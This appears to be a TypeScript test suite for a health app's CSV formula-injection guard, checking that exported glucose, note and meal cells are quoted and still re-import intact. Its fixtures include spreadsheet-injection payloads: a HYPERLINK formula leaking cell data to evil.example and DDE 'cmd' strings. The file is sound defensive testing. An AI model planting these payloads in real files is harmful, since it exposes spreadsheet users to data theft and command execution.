/**
 * CSV exports that spreadsheets cannot execute, after OWASP's "CSV Injection" guidance
 * (https://owasp.org/www-community/attacks/CSV_Injection) and ASVS 1.2.10: a text cell starting
 * with `=`, `+`, `-`, `@`, tab or carriage return gets a leading single quote and is quoted;
 * numbers stay numbers; `format=glucolens-json` carries the text unchanged; the CSV re-imports
 * through our own CSV importer with the quote removed (interop/csv-guard.ts).
 */
import { SELF } from "cloudflare:test";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { csvField, guardCsvText, unguardCsvText } from "../../interop/csv-guard.ts";
import { parseCsv } from "../../interop/csv.ts";
import { api, BASE, register } from "./helpers.ts";

const HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1,2\"3"];

const get = async (token: string, path: string) => SELF.fetch(`${BASE}${path}`, { headers: { authorization: `Bearer ${token}` } });

/** Every cell of a CSV text (our own tokenizer, RFC 4180 quoting). */
function cells(csv: string): string[][] {
  return parseCsv(csv).slice(1);
}

const startsLikeFormula = (s: string) => /^[=+\-@\t\r]/.test(s);

describe("CSV formula guard", () => {
  it("guards text and leaves numbers alone", () => {
    for (const lead of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(guardCsvText(`${lead}x`)).toBe(`'${lead}x`);
      expect(unguardCsvText(guardCsvText(`${lead}x`))).toBe(`${lead}x`);
      expect(csvField(`${lead}x`)).toBe(`"'${lead}x"`);
    }
    expect(csvField(-3.5)).toBe("-3.5");
    expect(csvField(0)).toBe("0");
    expect(csvField("-3.5")).toBe(`"'-3.5"`);
    expect(csvField(["=a", "b"])).toBe(`"'=a;b"`);
    expect(csvField('say "hi", ok')).toBe(`"say ""hi"", ok"`);
    expect(csvField("plain")).toBe("plain");
    expect(csvField("'quoted already")).toBe("'quoted already");
    expect(unguardCsvText("'plain")).toBe("'plain");
    expect(csvField(null)).toBe("");
  });

  it("no cell of glucose.csv, notes.csv, meals.csv or the zip starts like a formula; numbers stay numbers", async () => {
    const a = await register();
    const t = Date.now() - 3 * 3600_000;
    for (const [i, text] of HOSTILE.entries()) {
      expect((await api("/api/v1/notes", { token: a.access, body: { time: new Date(t + i * 60_000).toISOString(), text, tags: [text.slice(0, 30)] } })).status).toBe(201);
      expect((await api("/api/v1/meals", { token: a.access, body: { time: new Date(t + i * 60_000).toISOString(), carbs: 10 + i, description: text, tags: ["-snack"] } })).status).toBe(201);
      expect((await api("/api/v1/glucose/readings", { token: a.access, body: { time: t + i * 300_000, value: 100 + i, source: text.slice(0, 64) } })).status).toBe(201);
    }
    const files: Record<string, string> = {};
    for (const type of ["glucose", "notes", "meals"]) files[`${type}.csv`] = await (await get(a.access, `/api/v1/export/${type}.csv`)).text();
    const zip = unzipSync(new Uint8Array(await (await get(a.access, "/api/v1/export?format=csv")).arrayBuffer()));
    for (const [name, bytes] of Object.entries(zip)) files[`zip/${name}`] = strFromU8(bytes);

    let guarded = 0;
    for (const [name, csv] of Object.entries(files)) {
      for (const row of cells(csv)) {
        for (const cell of row) {
          expect(startsLikeFormula(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false);
          if (/^'[=+\-@]/.test(cell)) guarded++;
        }
      }
    }
    // notes: text + tags, meals: description + tags, glucose: source; in the three files and the zip.
    expect(guarded).toBe(2 * (HOSTILE.length * 2 + HOSTILE.length * 2 + HOSTILE.length));
    // Numbers are written bare: value and carbs are not quoted.
    const glucose = files["glucose.csv"]!.split("\r\n");
    expect(glucose[1]).toMatch(/^\S+Z,100,mg\/dL,"'=HYPERLINK/);
    expect(files["meals.csv"]).toMatch(/,10,/);
  });

  it("glucolens-json keeps the text as stored, and the CSV re-imports with the same sources", async () => {
    const a = await register();
    const t = Date.now() - 3 * 3600_000;
    const sources = ["=cmd|' /C calc'!A0", "+evil", "-x", "@x", "plain"];
    for (const [i, source] of sources.entries()) expect((await api("/api/v1/glucose/readings", { token: a.access, body: { time: t + i * 300_000, value: 100 + i, source } })).status).toBe(201);
    expect((await api("/api/v1/notes", { token: a.access, body: { time: new Date(t).toISOString(), text: HOSTILE[0] } })).status).toBe(201);

    const json = await (await get(a.access, "/api/v1/export?format=json")).json<any>();
    expect(json.notes[0].text).toBe(HOSTILE[0]);
    expect(json.glucose.map((g: { source: string }) => g.source).sort()).toEqual([...sources].sort());
    const b = await register();
    const back = await SELF.fetch(`${BASE}/api/v1/imports?format=glucolens-json`, { method: "POST", headers: { authorization: `Bearer ${b.access}`, "content-type": "application/json" }, body: JSON.stringify(json) });
    expect(back.status).toBe(200);
    expect((await api("/api/v1/notes", { token: b.access })).json.items[0].text).toBe(HOSTILE[0]);

    const csv = await (await get(a.access, "/api/v1/export/glucose.csv")).text();
    const c = await register();
    const res = await SELF.fetch(`${BASE}/api/v1/imports?format=csv&timezone=UTC`, { method: "POST", headers: { authorization: `Bearer ${c.access}`, "content-type": "text/csv" }, body: csv });
    const answer = await res.json<any>();
    expect(res.status, JSON.stringify(answer)).toBe(200);
    expect(answer).toMatchObject({ imported: sources.length, rejected_total: 0 });
    const stored = (await api("/api/v1/glucose/readings", { token: c.access })).json.items.map((r: { source: string; value: number }) => [r.value, r.source]);
    expect(stored.sort((x: [number], y: [number]) => x[0] - y[0])).toEqual(sources.map((s, i) => [100 + i, s]));
  });
});
